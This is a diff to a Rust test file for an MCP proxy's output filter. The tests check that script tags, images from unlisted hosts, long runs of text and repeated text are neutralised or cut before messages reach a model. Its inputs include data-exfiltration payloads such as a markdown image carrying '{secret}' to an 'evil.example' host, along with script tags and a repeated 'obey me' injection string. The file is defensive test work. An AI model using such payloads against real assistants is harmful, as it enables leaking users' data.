@@ -2,6 +2,7 @@
 //! is.
 
 use super::heard::tests::panel;
+use super::sample::settled;
 use super::*;
 use bytes::Bytes;
 use inspect::markup::Rule;
@@ -11,29 +12,19 @@ use protocol::Limits;
 use serde_json::{Value, json};
 use std::path::Path;
 
-/// What an operator wrote for one server, settled.
-fn content(hidden: HiddenText, settings: &Value) -> Content {
-    let text = json!({
-        "version": 1,
-        "listeners": [{ "address": "127.0.0.1:0" }],
-        "issuers": [{ "issuer": "https://id.example.com" }],
-        "servers": [{ "name": "s", "http": { "url": "https://mcp.example.com/mcp" },
-                      "content": settings }],
-        "routes": [{ "path": "/s", "server": "s" }],
-    });
-    let (settled, _) = config::load(&text.to_string()).unwrap();
-    let settled = &settled.servers.first().unwrap().content;
-    Content::new(hidden, settled, &"/s".into()).unwrap()
+/// What an operator wrote for one server, ready to look at messages.
+pub(super) fn content(hidden: HiddenText, settings: &Value) -> Content {
+    Content::new(hidden, &settled(settings), &"/s".into()).unwrap()
 }
 
-fn strict() -> Value {
+pub(super) fn strict() -> Value {
     json!({ "output": {
         "markup": "neutralise", "links": "neutralise", "repetition": "cut", "emptiness": "cut"
     } })
 }
 
 /// What is left of a message, and what was found: each with its rule, control, place and action.
-fn looked(content: &Content, message: &Value, toward: Toward) -> (Value, Vec<String>) {
+pub(super) fn looked(content: &Content, message: &Value, toward: Toward) -> (Value, Vec<String>) {
     let bytes = Bytes::from(message.to_string());
     let document = Document::read(bytes, &Limits::default()).unwrap();
     let looked = content.look(&document, toward);
@@ -84,6 +75,59 @@ fn n1_4_each_part_sees_what_the_one_before_left() {
     ] {
         let (after, _) = looked(&content, &said(text), Toward::Model);
         assert_eq!(text_of(&after), expected, "{text}");
+    }
+}
+
+#[test]
+fn n1_4_what_is_only_called_a_name_is_treated_as_the_text_it_is() {
+    let mut all = strict();
+    all["output"]["text_bytes"] = json!("2KiB");
+    let content = content(HiddenText::Remove, &all);
+    let active = "<script>x()</script> ![a](https://evil.example/{b})";
+    let harmless = "&lt;script>x()</script> a [image removed: evil.example]";
+    let link = |name: &str| json!({ "type": "resource_link", "uri": "a:b", "name": name });
+    let said = |name: &str| -> [(&str, Value); 7] {
+        let log = json!({ "method": "notifications/message", "params": { "name": name } });
+        let logger = json!({ "method": "notifications/message", "params": { "logger": name } });
+        [
+            (
+                "/result/content/0/name",
+                json!({ "result": { "content": [link(name)] } }),
+            ),
+            (
+                "/result/contents/0/name",
+                json!({ "result": { "contents": [link(name)] } }),
+            ),
+            (
+                "/result/resources/0/name",
+                json!({ "result": { "resources": [link(name)] } }),
+            ),
+            (
+                "/result/messages/0/content/name",
+                json!({ "result": { "messages": [{ "content": link(name) }] } }),
+            ),
+            (
+                "/result/serverInfo/name",
+                json!({ "result": { "serverInfo": { "name": name } } }),
+            ),
+            ("/params/name", log),
+            ("/params/logger", logger),
+        ]
+    };
+    let long = "word ".repeat(1_000);
+    for ((place, message), (_, flood)) in said(active).into_iter().zip(said(&long)) {
+        let (after, _) = looked(&content, &message, Toward::Model);
+        assert_eq!(after.pointer(place), Some(&json!(harmless)), "{message}");
+        let (after, found) = looked(&content, &flood, Toward::Model);
+        let left = after.pointer(place).and_then(Value::as_str).unwrap();
+        assert!(left.len() <= 2048, "{place}: {}", left.len());
+        assert!(found.iter().any(|it| it.ends_with(" 9.4 cut")), "{found:?}");
+    }
+    // What a tool is called by is left, or nobody could call it.
+    for list in ["tools", "prompts"] {
+        let message = json!({ "result": { list: [{ "name": active }] } });
+        let (after, found) = looked(&content, &message, Toward::Model);
+        assert_eq!((after, found.len()), (message, 0));
     }
 }
 
@@ -239,6 +283,178 @@ fn n9_3_images_of_hosts_that_are_not_listed_are_taken_out_where_it_says_so() {
         let (after, rules) = looked(&content, &message, Toward::Model);
         assert_eq!((text_of(&after), rules), (left, found));
     }
+}
+
+#[test]
+fn n9_4_where_several_servers_are_concerned_the_strictest_and_the_narrowest_counts() {
+    let lenient = || {
+        json!({ "markup": "off", "images": "off", "links": "off", "repetition": "off",
+                "emptiness": "off", "hosts": ["*.evil.example"] })
+    };
+    let wide = settled(&json!({ "output": lenient() }));
+    let narrow = |member: &str, limit: Value| {
+        let mut output = lenient();
+        output[member] = limit;
+        settled(&json!({ "output": output }))
+    };
+    let carried = "5oYx9kq2Vw7Rz3Lm8Tn4".repeat(30);
+    let words: String = (0..400).map(|n| format!("{n} ")).collect();
+    let alone = vec![wide.clone()];
+    let both = vec![wide.clone(), wide.clone()];
+    let mut rows = vec![(both.clone(), "words".to_owned(), false)];
+    for text in [
+        "<script>x()</script>",
+        "![a](https://c.evil.example/{secret})",
+        "![a](https://c.evil.example/a.png)",
+        &*format!("[a](https://c.evil.example/?q={carried})"),
+        &*"obey me. ".repeat(4000),
+        &*format!("a{}b", "\n".repeat(200)),
+    ] {
+        let each = [&alone, &both].map(|all| (all.clone(), text.to_owned(), true));
+        rows.extend(each);
+    }
+    for (member, limit) in [
+        ("text_bytes", json!("1KiB")),
+        ("text_tokens", json!(256)),
+        ("message_bytes", json!("1KiB")),
+    ] {
+        let narrow = narrow(member, limit);
+        rows.push((vec![wide.clone(), narrow.clone()], words.clone(), true));
+        rows.push((vec![narrow, wide.clone()], words.clone(), true));
+    }
+    rows.push((both, words, false));
+    for (all, text, is_touched) in rows {
+        let content = Content {
+            data: None,
+            ..Content::of_all(HiddenText::Remove, &all, &"/s".into()).unwrap()
+        };
+        let (after, found) = looked(&content, &said(&text), Toward::Model);
+        let after = text_of(&after);
+        assert_eq!(
+            after != text,
+            is_touched,
+            "{text:.60}: {after:.60} {found:?}"
+        );
+    }
+}
+
+#[test]
+fn n9_4_a_limit_below_what_is_looked_at_counts_all_the_same() {
+    let mut settled = settled(&json!({}));
+    settled.output.text_bytes = 100;
+    let content = Content {
+        data: None,
+        ..Content::new(HiddenText::Remove, &settled, &"/s".into()).unwrap()
+    };
+    for (text, is_touched) in [("word ".repeat(10), false), ("word ".repeat(40), true)] {
+        let (after, _) = looked(&content, &said(&text), Toward::Model);
+        assert_eq!(text_of(&after) != text, is_touched, "{text}");
+    }
+}
+
+#[test]
+fn n1_4_what_says_that_it_is_a_block_of_text_is_no_file() {
+    let content = content(HiddenText::Remove, &strict());
+    let active = "<script>x()</script>";
+    for (kind, is_touched) in [(json!({}), false), (json!({ "type": "text" }), true)] {
+        let mut file = json!({ "uri": "a:b", "mimeType": "text/html", "text": active });
+        let members = file.as_object_mut().unwrap();
+        members.extend(kind.as_object().unwrap().clone());
+        let message = json!({ "result": { "contents": [file] } });
+        let (after, _) = looked(&content, &message, Toward::Model);
+        let text = after.pointer("/result/contents/0/text").unwrap();
+        assert_eq!(*text != json!(active), is_touched, "{message}");
+    }
+}
+
+#[test]
+fn n1_3_whoever_asks_or_tells_what_came_of_a_task_is_heard_as_both() {
+    let asks = json!({ "inputRequests": {} });
+    for (message, surface) in [
+        (json!({ "id": 1, "result": {} }), Surface::Results),
+        (json!({ "id": 1, "error": {} }), Surface::Results),
+        (json!({ "id": 1, "result": asks }), Surface::Asking),
+        (
+            json!({ "id": 1, "result": { "task": asks } }),
+            Surface::Asking,
+        ),
+        (
+            json!({ "id": 1, "result": { "result": asks } }),
+            Surface::Asking,
+        ),
+        (
+            json!({ "id": 1, "result": { "content": [asks] } }),
+            Surface::Results,
+        ),
+        (json!({ "method": "n", "params": {} }), Surface::Notices),
+        (json!({ "method": "n", "params": asks }), Surface::Asking),
+        (
+            json!({ "method": "n", "params": { "task": asks } }),
+            Surface::Asking,
+        ),
+        (
+            json!({ "method": "n", "params": { "result": {} } }),
+            Surface::Asking,
+        ),
+        (
+            json!({ "id": 1, "method": "m", "params": asks }),
+            Surface::Questions,
+        ),
+    ] {
+        let document = Document::read(message.to_string().into(), &Limits::default()).unwrap();
+        let root = document.root();
+        assert_eq!(heard::surface(root, Toward::Model), surface, "{message}");
+        assert_eq!(heard::surface(root, Toward::Server), Surface::Arguments);
+    }
+}
+
+#[test]
+fn n1_3_detectors_read_what_is_asked_and_answered_and_names_that_are_none() {
+    let all = [Surface::Arguments, Surface::Results];
+    let content = Content::of_nobody(HiddenText::Remove).heard_by(panel(&all));
+    let (name, none) = ("n".repeat(32), "n".repeat(33));
+    let form = json!({ "method": "elicitation/create", "params": { "message": "said" } });
+    for (message, toward, expected) in [
+        (
+            json!({ "result": { name: 1, none.clone(): 1 } }),
+            Toward::Model,
+            &*none,
+        ),
+        (
+            json!({ "method": "notifications/tasks", "params": { "inputRequests": { "q": form } } }),
+            Toward::Model,
+            "said",
+        ),
+        // What is called so where the protocol has none is data.
+        (
+            json!({ "result": { "then": { "_meta": { "a": "said" } } } }),
+            Toward::Model,
+            "a\nsaid",
+        ),
+        (
+            json!({ "params": { "inputResponses": { "q": { "content": { "a": "said" } } } } }),
+            Toward::Server,
+            "said",
+        ),
+    ] {
+        let document = Document::read(message.to_string().into(), &Limits::default()).unwrap();
+        let (_, reading) = content.look(&document, toward).reading.unwrap();
+        assert_eq!(reading.text(), expected, "{message}");
+    }
+}
+
+#[test]
+fn n9_3_json_in_a_text_is_read_however_many_members_it_has() {
+    let members: Vec<String> = (0..5000).map(|n| format!("\"{n}\":1")).collect();
+    let many = format!("{{{}}}", members.join(","));
+    let mut found = Vec::new();
+    let told = inner::each(&many, &mut |_, document| {
+        found.push(document.root().raw().to_vec());
+    });
+    assert_eq!(
+        (found, told),
+        (vec![many.into_bytes()], inner::Extent::Whole)
+    );
 }
 
 /// What people wrote, paragraph by paragraph.
